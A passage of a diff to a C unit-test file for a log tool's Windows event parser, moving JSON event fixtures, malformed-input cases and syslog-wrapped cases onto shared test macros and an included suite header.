+	    "winlog.channel=Microsoft-Windows-WMI-Activity/Operational|"
+	    "host.name=WS1"),
 	/* lower-case channel, as some collectors write it */
-	{ NX("4688", "security", "DC01.corp.local", D4688), 4688, T_NX,
-	    SRC_AD, { "winlog.channel=security", "host.name=DC01.corp.local",
-	    "user.name=alice", "winlog.event_data.SubjectUserName=alice",
-	    "process.executable=C:\\Windows\\System32\\whoami.exe",
-	    "process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user",
-	    "process.parent.executable=C:\\Windows\\explorer.exe" } },
+	WIN(NX("4688", "security", "DC01.corp.local", D4688),
+	    4688, T_NX, SRC_AD,
+	    "winlog.channel=security|host.name=DC01.corp.local|"
+	    "user.name=alice|winlog.event_data.SubjectUserName=alice|"
+	    "process.executable=C:\\Windows\\System32\\whoami.exe|"
+	    "process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user|"
+	    "process.parent.executable=C:\\Windows\\explorer.exe"),
 	/* EventID as a string, numbers for strings, null, loopback kept */
-	{ "{\"EventID\":\"4624\",\"EventTime\":\"2026-03-10 14:02:11\","
+	WIN("{\"EventID\":\"4624\",\"EventTime\":\"2026-03-10 14:02:11\","
 	    "\"TargetUserName\":\"alice\",\"LogonType\":3,\"IpAddress\":\"::1\","
 	    "\"IpPort\":null,\"WorkstationName\":null}", 4624, T_NX, SRC_AD,
-	    { "user.name=alice", "winlog.event_data.TargetUserName=alice",
-	    "winlog.logon.type=3", "source.ip=::1" } },
+	    "user.name=alice|winlog.event_data.TargetUserName=alice|"
+	    "winlog.logon.type=3|source.ip=::1"),
 	/* the event id from event.code alone; host.name stands in */
-	{ "{\"@timestamp\":\"2026-03-10T14:02:11.123Z\",\"event\":{\"code\":"
+	WIN("{\"@timestamp\":\"2026-03-10T14:02:11.123Z\",\"event\":{\"code\":"
 	    "\"4624\"},\"host\":{\"name\":\"dc01\"},\"winlog\":{\"channel\":"
 	    "\"Security\",\"event_data\":{\"TargetUserName\":\"alice\"}}}",
-	    4624, T_WB, SRC_AD, { "winlog.channel=Security", "host.name=dc01",
-	    "user.name=alice", "winlog.event_data.TargetUserName=alice" } },
+	    4624, T_WB, SRC_AD,
+	    "winlog.channel=Security|host.name=dc01|user.name=alice|"
+	    "winlog.event_data.TargetUserName=alice"),
 	/* escaped unicode, surrogate pair, an invalid escape */
-	{ "{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\","
+	WIN("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\","
 	    "\"TargetUserName\":\"\\u00e9ric\\ud83d\\ude00\",\"WorkstationName\":"
 	    "\"WS\\x\",\"Channel\":\"Security\"}", 4624, T_NX, SRC_AD,
-	    { "winlog.channel=Security", "user.name=\xc3\xa9ric\xf0\x9f\x98\x80",
-	    "winlog.event_data.TargetUserName=\xc3\xa9ric\xf0\x9f\x98\x80" } },
+	    "winlog.channel=Security|user.name=\xc3\xa9ric\xf0\x9f\x98\x80|"
+	    "winlog.event_data.TargetUserName=\xc3\xa9ric\xf0\x9f\x98\x80"),
 	/* nested objects and arrays around, skipped; BOM; CRLF */
-	{ "\xef\xbb\xbf{\"x\":{\"y\":[1,2,{\"z\":\"}]\\\"\"}],\"w\":{}},"
+	WIN("\xef\xbb\xbf{\"x\":{\"y\":[1,2,{\"z\":\"}]\\\"\"}],\"w\":{}},"
 	    "\"EventID\":4776,\"a\":[[],[{}]],\"EventTime\":"
 	    "\"2026-03-10 14:02:11\",\"TargetUserName\":\"dave\",\"e\":1.5e-3,"
 	    "\"t\":true,\"f\":false,\"Workstation\":{\"nested\":\"no\"}}\r",
-	    4776, T_NX, SRC_AD, { "user.name=dave",
-	    "winlog.event_data.TargetUserName=dave" } },
+	    4776, T_NX, SRC_AD,
+	    "user.name=dave|winlog.event_data.TargetUserName=dave"),
 	/* NXLog local time put in UTC from Logstash's @timestamp */
-	{ "{\"EventReceivedTime\":\"2020-09-21 18:58:49\",\"EventID\":4634,"
+	WIN("{\"EventReceivedTime\":\"2020-09-21 18:58:49\",\"EventID\":4634,"
 	    "\"EventTime\":\"2020-09-21 18:58:47\",\"@timestamp\":"
-	    "\"2020-09-21T22:58:49.789Z\",\"Hostname\":\"DC\"}", 4634,
-	    1600729127000LL, SRC_AD, { "host.name=DC" } },
+	    "\"2020-09-21T22:58:49.789Z\",\"Hostname\":\"DC\"}",
+	    4634, 1600729127000LL, SRC_AD, "host.name=DC"),
 	/* ... not when the delay is not small */
-	{ "{\"EventReceivedTime\":\"2020-09-21 18:50:00\",\"EventID\":4634,"
+	WIN("{\"EventReceivedTime\":\"2020-09-21 18:50:00\",\"EventID\":4634,"
 	    "\"EventTime\":\"2020-09-21 18:58:47\",\"@timestamp\":"
 	    "\"2020-09-21T22:58:49.789Z\"}", 4634, 1600714727000LL, SRC_AD,
-	    { NULL } },
+	    ""),
 	/* an EventTime with its own zone */
-	{ "{\"EventID\":4634,\"EventTime\":\"2026-03-10T15:02:11+01:00\"}",
-	    4634, T_NX, SRC_AD, { NULL } },
+	WIN("{\"EventID\":4634,\"EventTime\":\"2026-03-10T15:02:11+01:00\"}",
+	    4634, T_NX, SRC_AD, ""),
 	/* only EventReceivedTime */
-	{ "{\"EventID\":4634,\"EventReceivedTime\":\"2026-03-10 14:02:11\"}",
-	    4634, T_NX, SRC_AD, { NULL } },
-};
-
-#define NCASES	(sizeof(cases) / sizeof(cases[0]))
-
-static enum parse_result
-run(const char *line, size_t len, struct logevent *ev, const char **err)
-{
-	const struct parser	*p = parser_lookup("windows");
-
-	ck_assert_ptr_nonnull(p);
-	logevent_reset(ev);
-	ck_assert_int_eq(logevent_reserve(ev, len + 64), 0);
-	ev->raw.p = line;
-	ev->raw.len = len;
-	*err = NULL;
-	return p->parse(NULL, line, len, ev, err);
-}
-
-/* The expected value of field name, or NULL. */
-static const char *
-expected(const struct wcase *c, const char *name)
-{
-	size_t	 i, n = strlen(name);
-
-	for (i = 0; i < MAXEXP && c->exp[i] != NULL; i++)
-		if (strncmp(c->exp[i], name, n) == 0 && c->exp[i][n] == '=')
-			return c->exp[i] + n + 1;
-	return NULL;
-}
-
-static void
-check_fields(const struct wcase *c, const struct logevent *ev, int idx)
-{
-	const struct field_def	*f = NULL;
-	size_t			 i, nf;
-	const char		*want;
-	struct slice		 s;
-	char			 buf[96];
-
-	f = field_table(&nf);
-	for (i = 0; i < nf; i++) {
-		if (strcmp(f[i].name, "winlog.event_id") == 0)
-			continue;
-		want = expected(c, f[i].name);
-		if (f[i].type == FIELD_STR) {
-			s = field_str(ev, &f[i]);
-			ck_assert_msg((want == NULL && s.len == 0) ||
-			    (want != NULL && s.len == strlen(want) &&
-			    memcmp(s.p, want, s.len) == 0),
-			    "case %d: %s is \"%.*s\", want \"%s\"", idx,
-			    f[i].name, (int)s.len, s.p ? s.p : "",
-			    want ? want : "");
-		} else {
-			snprintf(buf, sizeof(buf), "%lld",
-			    (long long)field_int(ev, &f[i]));
-			ck_assert_msg(strcmp(buf, want ? want : "-1") == 0,
-			    "case %d: %s is %s, want %s", idx, f[i].name, buf,
-			    want ? want : "-1");
-		}
-	}
-	/* Every expectation names a real field. */
-	for (i = 0; i < MAXEXP && c->exp[i] != NULL; i++) {
-		snprintf(buf, sizeof(buf), "%.*s",
-		    (int)strcspn(c->exp[i], "="), c->exp[i]);
-		ck_assert_msg(field_lookup(buf) != NULL, "no field %s", buf);
-	}
-}
-
-START_TEST(test_cases)
-{
-	const struct wcase	*c = &cases[_i];
-	struct logevent		 ev;
-	const char		*err;
-
-	memset(&ev, 0, sizeof(ev));
-	ck_assert_msg(run(c->line, strlen(c->line), &ev, &err) == PARSE_OK,
-	    "case %d: %s", _i, err ? err : "");
-	ck_assert_int_eq(ev.win_event_id, c->id);
-	ck_assert_msg(ev.time_ms == c->time_ms, "case %d: time %lld", _i,
-	    (long long)ev.time_ms);
-	ck_assert_int_eq(ev.source, c->source);
-	check_fields(c, &ev, _i);
-	logevent_free(&ev);
-}
-END_TEST
-
-/* Every proper prefix of a valid line is malformed, never an event. */
-START_TEST(test_truncated)
-{
-	const struct wcase	*c = &cases[_i];
-	struct logevent		 ev;
-	const char		*err;
-	size_t			 len = strlen(c->line), n;
-	char			*copy;
-
-	memset(&ev, 0, sizeof(ev));
-	while (len > 0 && (c->line[len - 1] == '\r'))
-		len--;
-	for (n = 1; n < len; n++) {
-		/* A copy of exactly n bytes, so ASan sees any overread. */
-		ck_assert_ptr_nonnull(copy = malloc(n));
-		memcpy(copy, c->line, n);
-		ck_assert_msg(run(copy, n, &ev, &err) != PARSE_OK,
-		    "case %d: prefix %zu parsed", _i, n);
-		free(copy);
-	}
-	logevent_free(&ev);
-}
-END_TEST
-
-static const struct {
-	const char		*line;
-	enum parse_result	 r;
-} odd[] = {
-	{ "", PARSE_SKIP },
-	{ "   \t\r", PARSE_SKIP },
-	{ "[1,2]", PARSE_ERROR },
-	{ "\"string\"", PARSE_ERROR },
-	{ "42", PARSE_ERROR },
-	{ "null", PARSE_ERROR },
-	{ "<13>Mar 10 14:02:11 host x", PARSE_ERROR },
-	{ "{}", PARSE_ERROR },
-	{ "{\"a\":1}", PARSE_ERROR },
-	{ "{\"EventID\":4624}", PARSE_ERROR },			/* no time */
-	{ "{\"EventID\":4624.5,\"EventTime\":\"2026-03-10 14:02:11\"}",
-	    PARSE_ERROR },
-	{ "{\"EventID\":70000,\"EventTime\":\"2026-03-10 14:02:11\"}",
-	    PARSE_ERROR },
-	{ "{\"EventID\":-1,\"EventTime\":\"2026-03-10 14:02:11\"}",
-	    PARSE_ERROR },
-	{ "{\"EventID\":\"\\u0034624\",\"EventTime\":\"2026-03-10 14:02:11\"}",
-	    PARSE_ERROR },
-	{ "{\"EventID\":4624,\"EventTime\":\"yesterday\"}", PARSE_ERROR },
-	{ "{\"EventID\":4624 \"EventTime\":\"2026-03-10 14:02:11\"}",
-	    PARSE_ERROR },
-	{ "{\"EventID\" 4624,\"EventTime\":\"2026-03-10 14:02:11\"}",
-	    PARSE_ERROR },
-	{ "{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",}",
-	    PARSE_ERROR },
-	{ "{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\"} x",
-	    PARSE_ERROR },
-	{ "{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\"}}",
-	    PARSE_ERROR },
-	{ "{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",\"x\":[}",
-	    PARSE_ERROR },
-	{ "{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",\"x\":tru}",
-	    PARSE_ERROR },
+	WIN("{\"EventID\":4634,\"EventReceivedTime\":\"2026-03-10 14:02:11\"}",
+	    4634, T_NX, SRC_AD, ""),
+	/* not events */
+	NO("", PARSE_SKIP),
+	NO("   \t\r", PARSE_SKIP),
+	NO("[1,2]", PARSE_ERROR),
+	NO("\"string\"", PARSE_ERROR),
+	NO("42", PARSE_ERROR),
+	NO("null", PARSE_ERROR),
+	NO("<13>Mar 10 14:02:11 host x", PARSE_ERROR),
+	NO("{}", PARSE_ERROR),
+	NO("{\"a\":1}", PARSE_ERROR),
+	NO("{\"EventID\":4624}", PARSE_ERROR),			/* no time */
+	NO("{\"EventID\":4624.5,\"EventTime\":\"2026-03-10 14:02:11\"}",
+	    PARSE_ERROR),
+	NO("{\"EventID\":70000,\"EventTime\":\"2026-03-10 14:02:11\"}",
+	    PARSE_ERROR),
+	NO("{\"EventID\":-1,\"EventTime\":\"2026-03-10 14:02:11\"}",
+	    PARSE_ERROR),
+	NO("{\"EventID\":\"\\u0034624\",\"EventTime\":\"2026-03-10 14:02:11\"}",
+	    PARSE_ERROR),
+	NO("{\"EventID\":4624,\"EventTime\":\"yesterday\"}", PARSE_ERROR),
+	NO("{\"EventID\":4624 \"EventTime\":\"2026-03-10 14:02:11\"}",
+	    PARSE_ERROR),
+	NO("{\"EventID\" 4624,\"EventTime\":\"2026-03-10 14:02:11\"}",
+	    PARSE_ERROR),
+	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",}",
+	    PARSE_ERROR),
+	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\"} x",
+	    PARSE_ERROR),
+	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\"}}",
+	    PARSE_ERROR),
+	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",\"x\":[}",
+	    PARSE_ERROR),
+	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",\"x\":tru}",
+	    PARSE_ERROR),
 	/* malformed inside the objects detectd enters */
-	{ "{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\":"
-	    "4624,\"event_data\":{\"a\" \"b\"}}}", PARSE_ERROR },
-	{ "{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\""
-	    "4624}}", PARSE_ERROR },
-	{ "{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"host\":{\"name\"},"
-	    "\"winlog\":{\"event_id\":4624}}", PARSE_ERROR },
-	{ "{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\":"
-	    "4624}}", PARSE_OK },
+	NO("{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\":"
+	    "4624,\"event_data\":{\"a\" \"b\"}}}", PARSE_ERROR),
+	NO("{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\""
+	    "4624}}", PARSE_ERROR),
+	NO("{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"host\":{\"name\"},"
+	    "\"winlog\":{\"event_id\":4624}}", PARSE_ERROR),
+	WIN("{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\":"
+	    "4624}}", 4624, T_NX, SRC_AD, ""),
+	/* a syslog header's host and time stand in for the event's own */
+	SYS("<13>Mar 10 14:02:11 nxhost nxlog: {\"EventID\":4624,"
+	    "\"TargetUserName\":\"a\"}", 4624, T_NX, "host.name=nxhost|"
+	    "user.name=a|winlog.event_data.TargetUserName=a"),
+	SYS("<13>Mar 10 14:02:11 nxhost nxlog: {\"EventID\":4624,"
+	    "\"Hostname\":\"DC01\",\"EventTime\":\"2026-03-10 15:00:00\"}",
+	    4624, T_NX + 3469000, "host.name=DC01"),
 };
 
-START_TEST(test_odd)
+/* Every proper prefix of an event's line is malformed, never an event. */
+static void
+winevent_prefix(const char *label, const struct pt_case *c, size_t k,
+    const char *line, enum parse_result r, const struct logevent *ev,
+    const char *err)
 {
-	struct logevent	 ev;
-	const char	*err;
-	enum parse_result r;
+	size_t	 len = strlen(c->line);
 
-	memset(&ev, 0, sizeof(ev));
-	r = run(odd[_i].line, strlen(odd[_i].line), &ev, &err);
-	ck_assert_msg(r == odd[_i].r, "odd %d: %d", _i, r);
-	if (r == PARSE_ERROR)
-		ck_assert(err != NULL && err[0] != '\0');
-	logevent_free(&ev);
+	(void)line;
+	(void)ev;
+	(void)err;
+	while (len > 0 && c->line[len - 1] == '\r')
+		len--;
+	if (c->result == PARSE_OK && !(c->flags & PT_SYSLOG) && k > 0 &&
+	    k < len)
+		ck_assert_msg(r != PARSE_OK, "%s: prefix %zu parsed", label, k);
 }
-END_TEST
 
 /* A 30,000-byte command line full of escaped backslashes. */
 START_TEST(test_long)
@@ -607,6 +507,7 @@ START_TEST(test_long)
 	static const char	 head[] = "{\"EventID\":1,\"Channel\":\""
 				    SYSMON "\"," UTCTIME ",\"CommandLine\":\"";
 	static const char	 tail[] = "\",\"Image\":\"C:\\\\a.exe\"}";
+	const struct parser	*p = pt_parser("windows");
 	struct logevent		 ev;
 	const char		*err;
 	size_t			 i, n = 0, cap = 70000;
@@ -622,7 +523,8 @@ START_TEST(test_long)
 	}
 	memcpy(line + n, tail, sizeof(tail) - 1);
 	n += sizeof(tail) - 1;
-	ck_assert_int_eq(run(line, n, &ev, &err), PARSE_OK);
+	ck_assert_int_eq(pt_parse(p, NULL, line, n, 0, 0, &ev, &err),
+	    PARSE_OK);
 	ck_assert_uint_eq(ev.command_line.len, 30000);
 	ck_assert(memcmp(ev.command_line.p, "a\\ba\\b", 6) == 0);
 	ck_assert(slice_eq(ev.process_image, "C:\\a.exe"));
@@ -632,88 +534,21 @@ START_TEST(test_long)
 }
 END_TEST
 
-/* Binary garbage and random bytes: never a crash, never an event. */
-START_TEST(test_garbage)
-{
-	struct logevent	 ev;
-	const char	*err;
-	char		 buf[512];
-	uint64_t	 x = 88172645463325252ULL;
-	size_t		 i, k;
-
-	memset(&ev, 0, sizeof(ev));
-	for (k = 0; k < 2000; k++) {
-		for (i = 0; i < sizeof(buf); i++) {
-			x ^= x << 13;
-			x ^= x >> 7;
-			x ^= x << 17;
-			buf[i] = (char)(k % 2 ? "{}[]\":,\\ u0a1tfn-"[x % 18] :
-			    (char)x);
-		}
-		buf[0] = '{';
-		(void)run(buf, 1 + k % (sizeof(buf) - 1), &ev, &err);
-	}
-	logevent_free(&ev);
-}
-END_TEST
-
-/*
- * Behind a syslog header (NXLog forwarding over syslog): the header's
- * host and time stand in when the event lacks its own.
- */
-START_TEST(test_syslog)
-{
-	static const char	 l1[] = "<13>Mar 10 14:02:11 nxhost nxlog: "
-				    "{\"EventID\":4624,\"TargetUserName\":\"a\"}";
-	static const char	 l2[] = "<13>Mar 10 14:02:11 nxhost nxlog: "
-				    "{\"EventID\":4624,\"Hostname\":\"DC01\","
-				    "\"EventTime\":\"2026-03-10 15:00:00\"}";
-	const struct parser	*p = parser_lookup("windows");
-	struct syslog_header	 h;
-	struct logevent		 ev;
-	const char		*err;
-	size_t			 off;
-
-	ck_assert(p->flags & PARSER_SYSLOG);
-	memset(&ev, 0, sizeof(ev));
-	off = syslog_header_parse(l1, strlen(l1), T_NX, &h);
-	ck_assert_uint_gt(off, 0);
-	logevent_reset(&ev);
-	ck_assert_int_eq(logevent_reserve(&ev, sizeof(l1) + 64), 0);
-	ev.host_name = h.host;
-	ev.time_ms = h.time_ms;
-	ck_assert_int_eq(p->parse(NULL, l1 + off, strlen(l1) - off, &ev, &err),
-	    PARSE_OK);
-	ck_assert(slice_eq(ev.host_name, "nxhost"));
-	ck_assert_int_eq(ev.time_ms, T_NX);
-	ck_assert(slice_eq(ev.user, "a"));
-
-	off = syslog_header_parse(l2, strlen(l2), T_NX, &h);
-	ck_assert_uint_gt(off, 0);
-	logevent_reset(&ev);
-	ev.host_name = h.host;
-	ev.time_ms = h.time_ms;
-	ck_assert_int_eq(p->parse(NULL, l2 + off, strlen(l2) - off, &ev, &err),
-	    PARSE_OK);
-	ck_assert(slice_eq(ev.host_name, "DC01"));
-	ck_assert_int_eq(ev.time_ms, T_NX + 3469000);
-	logevent_free(&ev);
-}
-END_TEST
-
 /* The arena holds every decoded value of a line full of escapes. */
 START_TEST(test_arena)
 {
-	struct logevent	 ev;
-	const char	*err;
 	static const char line[] = "{\"EventID\":1,\"Channel\":\"" SYSMON "\","
 	    UTCTIME ",\"Image\":\"\\\\\",\"CommandLine\":\"\\\\\\\\\","
 	    "\"ParentImage\":\"\\\"\",\"ParentCommandLine\":\"\\n\\t\","
 	    "\"User\":\"\\\\u\",\"Hashes\":\"\\u0041\",\"OriginalFileName\":"
 	    "\"\\/\"}";
+	const struct parser	*p = pt_parser("windows");
+	struct logevent		 ev;
+	const char		*err;
 
 	memset(&ev, 0, sizeof(ev));
-	ck_assert_int_eq(run(line, sizeof(line) - 1, &ev, &err), PARSE_OK);
+	ck_assert_int_eq(pt_parse(p, NULL, line, sizeof(line) - 1, 0, 0, &ev,
+	    &err), PARSE_OK);
 	ck_assert(slice_eq(ev.process_image, "\\"));
 	ck_assert(slice_eq(ev.command_line, "\\\\"));
 	ck_assert(slice_eq(ev.parent_image, "\""));
@@ -726,44 +561,14 @@ START_TEST(test_arena)
 }
 END_TEST
 
-START_TEST(test_table)
-{
-	const struct parser	*p = parser_lookup("windows");
-
-	ck_assert_ptr_nonnull(p);
-	ck_assert_str_eq(p->name, "windows");
-	ck_assert_int_eq(p->source, SRC_AD);
-	ck_assert_ptr_nonnull(p->doc);
-}
-END_TEST
-
-static Suite *
-winevent_suite(void)
-{
-	Suite	*s = suite_create("winevent");
-	TCase	*tc = tcase_create("core");
-
-	tcase_set_timeout(tc, 120);
-	tcase_add_loop_test(tc, test_cases, 0, NCASES);
-	tcase_add_loop_test(tc, test_truncated, 0, NCASES);
-	tcase_add_loop_test(tc, test_odd, 0, sizeof(odd) / sizeof(odd[0]));
-	tcase_add_test(tc, test_long);
-	tcase_add_test(tc, test_garbage);
-	tcase_add_test(tc, test_syslog);
-	tcase_add_test(tc, test_arena);
-	tcase_add_test(tc, test_table);
-	suite_add_tcase(s, tc);
-	return s;
-}
-
-int
-main(void)
-{
-	SRunner	*sr = srunner_create(winevent_suite());
-	int	 failed;
-
-	srunner_run_all(sr, CK_NORMAL);
-	failed = srunner_ntests_failed(sr);
-	srunner_free(sr);
-	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
-}
+#define PT_SUITE	"winevent"
+#define PT_ROW		"windows", SRC_AD, PARSER_SYSLOG, 0
+#define PT_GARBAGE	"{}[]\":,\\ u0a1tfn-"
+#define PT_SEED		88
+#define PT_PREFIX	winevent_prefix
+#define PT_MORE(tc) \
+	do { \
+		tcase_add_test(tc, test_long); \
+		tcase_add_test(tc, test_arena); \
+	} while (0)
+#include "parser_suite.h"
